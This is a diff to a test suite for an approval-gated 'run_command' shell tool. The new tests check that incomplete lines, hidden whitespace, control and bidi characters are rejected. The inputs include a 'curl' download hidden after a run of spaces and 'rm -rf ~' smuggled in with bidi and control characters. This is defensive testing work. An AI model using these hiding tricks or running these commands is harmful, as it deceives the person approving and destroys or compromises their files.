@@ -17,10 +17,22 @@ describe('run_command: what runs is the line the user read', () => {
     expect(t.steps).toEqual([]);
   });
 
+  it.each(['echo "unclosed', 'ls |', 'ls \\', 'cat <<EOF', 'echo $(ls'])('refuses %s, which would leave the shell waiting for more', async (command) => {
+    const t = setUp();
+    await expect(t.call(command)).rejects.toThrow(/complete command line/);
+    expect(t.steps).toEqual([]);
+  });
+
   it('refuses a run of spaces that would push the rest of the line out of sight', async () => {
     const t = setUp();
     await expect(t.call(`ls${' '.repeat(200)}; curl -o x https://x.sh`)).rejects.toThrow(/run of spaces/);
     expect(t.steps).toEqual([]);
+  });
+
+  it('shows the reason without control or bidi characters', async () => {
+    const t = setUp();
+    void t.turn.tool.execute({ command: 'ls', reason: 'Safe\u202e\n$ rm -rf ~\x1b[2K' }, t.controller.signal);
+    expect((await t.stepIn('proposed')).reason).toBe('Safe $ rm -rf ~ [2K');
   });
 
   it('leaves a ! the shell does not expand alone', () => {
@@ -49,6 +61,7 @@ describe('run_command: decisions that cannot run fail safe', () => {
     const proposed = await t.stepIn('proposed');
     await expect(t.decisions.decide(proposed.id, { decision: 'run', command: 'ls \x15rm -rf ~', activeSessionId: 's1' })).rejects.toThrow(/control/);
     await expect(t.decisions.decide(proposed.id, { decision: 'run', command: 'ls; !!', activeSessionId: 's1' })).rejects.toThrow(/history/);
+    await expect(t.decisions.decide(proposed.id, { decision: 'run', command: "echo 'open", activeSessionId: 's1' })).rejects.toThrow(/complete line/);
     expect(t.terminals.typed).toEqual([]);
     expect(await t.decisions.decide(proposed.id, { decision: 'run', command: 'ls -a', activeSessionId: 's1' })).toBeNull();
     await t.stepIn('running');
